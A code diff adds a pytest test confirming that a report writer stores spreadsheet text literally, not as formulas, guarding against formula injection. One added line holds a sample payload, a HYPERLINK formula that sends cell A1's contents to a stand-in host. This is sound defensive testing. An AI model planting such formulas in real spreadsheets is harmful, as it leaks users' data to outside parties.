@@ -136,3 +136,17 @@ def test_markdown_report(tmp_path: Path) -> None:
 def test_unknown_suffix_lists_formats(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match=r"\.md, \.html, \.docx, \.xlsx"):
         reports.write_report(DATA, tmp_path / "report.pdf")
+
+
+def test_xlsx_never_writes_a_draft_text_as_a_formula(tmp_path: Path) -> None:
+    # openpyxl stores any string starting with "=" as a formula (issue #19 security review)
+    from openpyxl import load_workbook
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    item = {**DATA["items"][0], "evidence": [{**DATA["items"][0]["evidence"][0], "text": hostile}]}
+    data = {**DATA, "title": "=1+1", "items": [item]}
+    target = tmp_path / "r.xlsx"
+    reports.write_report(data, target)
+    cells = [c for row in load_workbook(target).active.iter_rows() for c in row if c.value]
+    assert not [c for c in cells if c.data_type == "f"]
+    assert any(hostile in str(c.value) for c in cells)
